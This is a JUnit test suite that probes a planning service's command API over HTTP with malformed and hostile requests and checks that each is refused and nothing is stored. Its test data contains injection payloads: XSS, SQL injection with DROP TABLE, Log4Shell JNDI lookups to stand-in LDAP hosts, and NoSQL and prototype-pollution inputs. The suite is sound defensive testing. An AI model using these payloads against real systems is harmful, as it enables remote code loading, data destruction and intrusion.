package org.planledger.command.web;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.planledger.command.CommandEndpoints;
import org.planledger.command.CommandServiceTest;
import org.planledger.command.Governance;
import org.planledger.command.StoredEvents;
import org.planledger.web.hostile.HostileRequests;
import org.planledger.web.hostile.HostileTally;
import org.planledger.web.hostile.RawHttp;
import org.planledger.web.security.TestIdentities;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerAdapter;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The command service's part of the hostile-input suite, over real HTTP (Tomcat's own refusals never reach MockMvc):
 * malformed and hostile bodies from a fixed seed at every command endpoint; every undocumented Content-Type; an
 * unacceptable Accept; coercions, duplicate keys and bad encodings, each refused naming the field; hostile paths,
 * parameters, headers, request lines and methods. Each answer is tallied: a 5xx, a refusal that is not
 * problem+json, or a refusal after which the store had grown fails the suite, and the figures are printed.
 */
@CommandServiceTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    private static final long SEED = 20261123L;
    private static final int CASES_PER_ENDPOINT = 60;
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String TEMPLATE = """
            {"summary": "Pilot evaluated", "status": "IN_PROGRESS", "evidence": ["https://example.org/e"],
             "reason": "r", "decisionId": "TF-1", "bodyId": "slwg-z", "kind": "NETWORK", "name": "N",
             "meetingId": "m-1", "heldOn": "2024-01-15", "title": "T", "versionId": "2025-01", "actions": []}""";
    private static final String VERSION = """
            {"versionId": "2023-11", "title": "T", "publishedOn": "2023-11-01", "aims": [{"code": "A", "title": "Aim"}],
             "actions": [{"number": 1, "aim": "A", "title": "Action 1"%s}]}""";

    @LocalServerPort
    int port;
    @Autowired
    StoredEvents stored;
    @Autowired
    Governance governance;
    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;
    @Autowired
    RequestMappingHandlerAdapter adapter;

    private HostileTally suite;

    @BeforeAll
    void startCounting() {
        suite = new HostileTally("command service", stored::count);
    }

    @AfterAll
    void printTheFigures() {
        suite.report();
    }

    @Test
    void refusesEveryHostileBodyAsAClientMistakeAndAppendsNothing() {
        HostileTally tally = suite.part("generated bodies");
        Random random = new Random(SEED);
        for (String endpoint : CommandEndpoints.aimedAtNothing(mappings)) {
            for (int i = 0; i < CASES_PER_ENDPOINT; i++) {
                Hostile hostile = GENERATORS.get(i % GENERATORS.size()).apply(random);
                RawHttp.Answer answer = tally.api(endpoint + " <- " + hostile.kind(), () -> post(endpoint,
                        Map.of("Content-Type", hostile.contentType()), hostile.body()));
                assertThat(answer.status()).as(hostile.kind()).isBetween(400, 499);
            }
        }
        tally.report();
    }

    @Test
    void refusesEveryContentTypeButJsonAtEveryCommandEndpoint() {
        HostileTally tally = suite.part("content types");
        byte[] body = "summary: \"a\\0b\"".getBytes(StandardCharsets.UTF_8);
        for (String endpoint : CommandEndpoints.aimedAtNothing(mappings)) {
            for (String type : List.of("application/yaml", "application/x-yaml", "text/yaml", "application/xml",
                    "text/xml", "application/cbor", "application/x-jackson-smile", "application/x-protobuf", "*/*",
                    "application/*", "*/json", "application/*+json", "text/plain", "text/html", "text/json",
                    "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream",
                    "application/merge-patch+json", "application/json-patch+json", "application/problem+json",
                    "application/json; charset=ISO-8859-1", "application/json; charset=UTF-16",
                    "application/json; charset=nonsense", "application/json;;;", "application/json; charset",
                    "json", ";", " ", "application/json, application/yaml")) {
                RawHttp.Answer answer = tally.api(endpoint + " as " + type, () -> post(endpoint, Map.of("Content-Type", type), body));
                if (!endpoint.endsWith("/minutes/publication")) {
                    // the one command without a body ignores whatever is sent
                    assertThat(answer.status()).as(endpoint + " as " + type).isIn(400, 415);
                }
            }
        }
        tally.report();
    }

    @Test
    void readsAndWritesNoFormatTheApiDoesNotDocument() {
        assertThat(adapter.getMessageConverters()).flatMap(converter -> converter.getSupportedMediaTypes())
                .extracting(type -> type.getSubtypeSuffix() == null ? type.getSubtype() : type.getSubtypeSuffix())
                .doesNotContain("yaml", "xml", "cbor", "x-jackson-smile");
        assertThat(adapter.getMessageConverters()).filteredOn(converter -> converter.getSupportedMediaTypes().stream()
                .anyMatch(type -> type.equalsTypeAndSubtype(MediaType.APPLICATION_JSON))).hasSize(1);
    }

    @Test
    void refusesAnUnacceptableAcceptBeforeTheCommandRuns() {
        HostileTally tally = suite.part("Accept");
        String progress = "/api/plans/" + governance.plan("accept", 1, null) + "/versions/2023-11/actions/1/progress";
        byte[] body = "{\"summary\": \"answered only as JSON\"}".getBytes(StandardCharsets.UTF_8);
        for (String accept : List.of("application/xml", "application/yaml", "text/html", "text/plain", "application/cbor",
                "application/x-jackson-smile", "application/problem+json", ";;;",
                "text/*", "image/png")) {
            RawHttp.Answer answer = tally.api("Accept " + accept, () -> post(progress,
                    Map.of("Content-Type", "application/json", "Accept", accept), body));
            assertThat(answer.status()).as(accept).isEqualTo(406);
        }
        tally.report();

        long before = stored.count();
        assertThat(post(progress, Map.of("Content-Type", "application/json", "Accept", "application/json"), body).status())
                .isEqualTo(201);
        assertThat(stored.count()).as("the same command, acceptable, is recorded").isEqualTo(before + 1);
    }

    @Test
    void refusesCoercionsDuplicateKeysAndBadEncodingsNamingTheField() {
        HostileTally tally = suite.part("coercions and encodings");
        String progress = "/api/plans/" + governance.plan("strict", 1, null) + "/versions/2023-11/actions/1/progress";
        Map<byte[], String> cases = new LinkedHashMap<>();
        for (String value : List.of("12", "true", "1.5e300", "{\"a\": 1}", "[\"x\"]")) {
            cases.put(json("{\"summary\": " + value + "}"), "summary");
        }
        for (String value : List.of("2", "\"2\"", "\"in_progress\"", "\"\"", "true", "[\"IN_PROGRESS\"]", "\" IN_PROGRESS\"")) {
            cases.put(json("{\"summary\": \"x\", \"status\": " + value + "}"), "status");
        }
        for (String value : List.of("[2024, 1, 1]", "20240101", "\"\"", "\"2024-1-1\"", "\"+2024-01-01\"", "\"1899-12-31\"",
                "\"-999999999-01-01\"", "\"+999999999-12-31\"", "\"2024-02-30\"", "\"2024-01-01T00:00:00Z\"",
                "\" 2024-01-01\"", "{\"year\": 2024}", "true", "1.5")) {
            cases.put(json("{\"summary\": \"x\", \"effectiveOn\": " + value + "}"), "effectiveOn");
        }
        cases.put(json("{\"summary\": \"x\", \"evidence\": \"e\"}"), "evidence");
        cases.put(json("{\"summary\": \"x\", \"evidence\": [1]}"), "evidence[0]");
        cases.put(json("{\"summary\": \"x\", \"evidence\": [[\"e\"]]}"), "evidence[0]");
        cases.put(json("{\"summary\": \"x\", \"decisionId\": 7}"), "decisionId");
        cases.put(json("{\"summary\": \"a\", \"summary\": \"b\"}"), "summary");
        cases.put(json("{\"summary\": \"x\", \"status\": \"AT_RISK\", \"status\": \"IN_PROGRESS\"}"), "status");
        cases.put(json("{\"summary\": \"x\", \"actor\": \"mallory\"}"), "actor");
        for (String malformed : List.of("{\"summary\": \"x\"} {\"summary\": \"y\"}", "{\"summary\": \"x\"} x",
                "{\"summary\": \"x\",}", "{'summary': 'x'}", "{summary: \"x\"}", "{\"summary\": \"x\" /* c */}",
                "{\"summary\": NaN}")) {
            cases.put(json(malformed), "body");
        }
        for (String malformed : List.of("{\"summary\": \"x\\q\"}", "{\"summary\": \"x\u0001\"}")) {
            cases.put(json(malformed), "summary");
        }
        for (String escape : List.of("\\ud800", "\\udc00", "\\ud800\\u0041", "\\ud800\\ud800", "\\u0000", "\\u0007",
                "\\u007f", "\\u0085", "\\u009b", "\\uffff", "\\ufffe", "\\ufdd0", "\\ud83f\\udfff", "\\udbff\\udfff")) {
            cases.put(json("{\"summary\": \"a" + escape + "b\"}"), "summary");
        }
        for (String bytes : List.of("c0a2", "e080a2", "f08080a2", "eda080", "edbfbf", "80", "bf", "ff", "fe", "e282", "c2",
                "f4908080", "f8888080a2", "c29b", "c285", "efbfbf", "efbfbe", "efb790", "f09fbfbf")) {
            cases.put(concat(json("{\"summary\": \"a"), HexFormat.of().parseHex(bytes), json("b\"}")), "summary");
        }
        cases.put(concat(HexFormat.of().parseHex("efbbbf"), json("{\"summary\": \"x\"}")), "body");
        cases.put("{\"summary\": \"x\"}".getBytes(StandardCharsets.UTF_16BE), "body");
        cases.put("{\"summary\": \"x\"}".getBytes(StandardCharsets.UTF_16), "body");
        cases.put("{\"summary\": \"x\"}".getBytes(java.nio.charset.Charset.forName("UTF-32LE")), "body");
        long before = stored.count();
        for (Map.Entry<byte[], String> hostile : cases.entrySet()) {
            String kind = "progress <- " + HexFormat.of().formatHex(hostile.getKey());
            RawHttp.Answer answer = tally.api(kind, () -> post(progress, Map.of("Content-Type", "application/json"),
                    hostile.getKey()));
            assertThat(answer.status()).as(kind).isEqualTo(400);
            assertThat(fields(answer)).as(kind).contains(hostile.getValue());
        }

        Map<String, String> versions = new LinkedHashMap<>();
        for (String number : List.of("\"1\"", "1.0", "1.5", "true", "1e0", "null", "[1]", "99999999999")) {
            versions.put(VERSION.formatted("").replace("\"number\": 1", "\"number\": " + number), "actions[0].number");
        }
        versions.put(VERSION.formatted(", \"title\": \"again\""), "actions[0].title");
        versions.put(VERSION.formatted(", \"timeframe\": 1"), "actions[0].timeframe");
        versions.put(VERSION.formatted(", \"continues\": \"x/2022-07/1\""), "actions[0].continues");
        versions.put(VERSION.formatted(", \"continues\": [1]"), "actions[0].continues[0]");
        versions.put(VERSION.formatted("").replace("\"2023-11-01\"", "[2023, 11, 1]"), "publishedOn");
        versions.put(VERSION.formatted("").replace("\"2023-11-01\"", "\"0999-11-01\""), "publishedOn");
        versions.put(VERSION.formatted("").replace("\"2023-11-01\"", "\"+10000-11-01\""), "publishedOn");
        versions.put(VERSION.formatted("").replace("[{\"code\": \"A\", \"title\": \"Aim\"}]", "{\"code\": \"A\"}"), "aims");
        for (Map.Entry<String, String> hostile : versions.entrySet()) {
            String plan = "/api/plans/strict-" + UUID.randomUUID().toString().substring(0, 8) + "/versions";
            RawHttp.Answer answer = tally.api("publish <- " + hostile.getKey(), () -> post(plan,
                    Map.of("Content-Type", "application/json"), json(hostile.getKey())));
            assertThat(answer.status()).as(hostile.getKey()).isEqualTo(400);
            assertThat(fields(answer)).as(hostile.getKey()).contains(hostile.getValue());
        }
        tally.report();
        assertThat(stored.count()).isEqualTo(before);
    }

    @Test
    void storesHostileTextVerbatimAndRefusesControlCharacters() {
        String plan = governance.plan("hostile", 1, null);
        String progress = "/api/plans/" + plan + "/versions/2023-11/actions/1/progress";
        String hostile = "<script>alert(\"x\")</script> ' OR 1=1; -- ${jndi:ldap://x} \t tab\r\nline \u202Eevil 🚀 Ω "
                + "\\ back\\slash \u2028\u2029 e\u0301 \uFEFF \uFFFD \u00A0 𝄞 👩‍👩‍👧 %00 \\u0000 &#0; \uFF21";

        assertThat(post(progress, Map.of("Content-Type", "application/json"),
                JSON.writeValueAsBytes(Map.of("summary", hostile))).status()).isEqualTo(201);
        RawHttp.Answer nul = post(progress, Map.of("Content-Type", "application/json"), json("{\"summary\": \"nul\\u0000byte\"}"));
        assertThat(nul.status()).isEqualTo(400);
        assertThat(JSON.readTree(nul.body()).path("detail").asString())
                .isEqualTo("summary: contains a control character; only tab, line feed and carriage return are allowed");

        List<StoredEvents.Stored> events = stored.under(plan + "/2023-11/1");
        assertThat(events).extracting(StoredEvents.Stored::type).containsExactly("ActionPublished", "ProgressRecorded");
        assertThat(events.get(1).payload()).containsEntry("summary", hostile);
    }

    @Test
    void refusesHostileHttpWithProblems() {
        HostileTally tally = suite.part("paths, parameters, headers, request lines, methods");
        String progress = "/api/plans/" + governance.plan("http", 1, null) + "/versions/2023-11/actions/1/progress";
        Map<String, String> headers = Map.of("Authorization", TestIdentities.basic("secretariat"),
                "Content-Type", "application/json");
        List<HostileRequests.Hostile> requests = new ArrayList<>(HostileRequests.around("POST", progress, headers,
                json("{\"summary\": \"sent by a hostile client\"}")));
        requests.addAll(HostileRequests.around("GET", "/actuator/health", Map.of(), null));
        for (HostileRequests.Hostile hostile : requests) {
            tally.api(hostile.kind(), () -> RawHttp.send(port, hostile.bytes()));
        }
        tally.report();
    }

    private RawHttp.Answer post(String path, Map<String, String> headers, byte[] body) {
        Map<String, String> all = new LinkedHashMap<>(headers);
        all.putIfAbsent("Authorization", TestIdentities.basic("secretariat"));
        return RawHttp.send(port, RawHttp.request("POST", path, all, body));
    }

    private static List<String> fields(RawHttp.Answer answer) {
        List<String> fields = new ArrayList<>();
        for (JsonNode error : JSON.readTree(answer.body()).path("errors")) {
            fields.add(error.path("field").asString());
        }
        return fields;
    }

    private static byte[] json(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private record Hostile(String kind, String contentType, byte[] body) {
        static Hostile json(String kind, String body) {
            return new Hostile(kind, "application/json", body.getBytes(StandardCharsets.UTF_8));
        }
    }

    private static final List<Function<Random, Hostile>> GENERATORS = List.of(
            random -> {
                byte[] bytes = new byte[1 + random.nextInt(200)];
                random.nextBytes(bytes);
                return new Hostile("random bytes", "application/json", bytes);
            },
            random -> Hostile.json("cut short", TEMPLATE.substring(0, 1 + random.nextInt(TEMPLATE.length() - 2))),
            random -> Hostile.json("not an object",
                    List.of("[]", "[1, 2]", "\"text\"", "42", "null", "true", "", " ").get(random.nextInt(8))),
            random -> Hostile.json("unknown field", "{\"" + hostileName(random) + "\": " + hostileValue(random, 0) + ", "
                    + TEMPLATE.substring(1)),
            random -> {
                int depth = 2_000 + random.nextInt(20_000);
                return Hostile.json("nested " + depth + " deep", "{\"summary\": " + "[".repeat(depth) + "]".repeat(depth) + "}");
            },
            random -> Hostile.json("too large", "{\"summary\": \"" + "x".repeat(300_000 + random.nextInt(100_000)) + "\"}"),
            random -> new Hostile("not JSON", "text/plain", "summary=hello".getBytes(StandardCharsets.UTF_8)),
            random -> Hostile.json("control characters", "{\"x\\u0000\": 1, "
                    + TEMPLATE.replace("Pilot evaluated", "Pilot\\u0000evaluated\\u0007").substring(1)),
            random -> Hostile.json("wrong types", "{\"summary\": {\"$where\": \"1==1\"}, \"evidence\": \"not a list\", "
                    + "\"status\": [\"IN_PROGRESS\"], \"effectiveOn\": 20240101, \"" + hostileName(random) + "\": null}"),
            random -> Hostile.json("duplicate keys", "{\"summary\": \"a\", \"summary\": \"b\", \"__proto__\": {\"admin\": true}}"));

    private static String hostileName(Random random) {
        return List.of("actor", "__proto__", "constructor", "$where", "'; DROP TABLE events.domain_event_entry; --",
                "<script>alert(1)</script>", "\\u202Eevil", "a".repeat(10_000), new UUID(random.nextLong(), random.nextLong()).toString())
                .get(random.nextInt(9));
    }

    private static String hostileValue(Random random, int depth) {
        return switch (random.nextInt(depth > 3 ? 4 : 6)) {
            case 0 -> "1e400";
            case 1 -> "-9223372036854775809";
            case 2 -> "\"\\uD800\"";
            case 3 -> "\"${jndi:ldap://example.invalid/a}\"";
            case 4 -> "[" + hostileValue(random, depth + 1) + ", " + hostileValue(random, depth + 1) + "]";
            default -> "{\"" + new UUID(random.nextLong(), random.nextLong()) + "\": " + hostileValue(random, depth + 1) + "}";
        };
    }
}
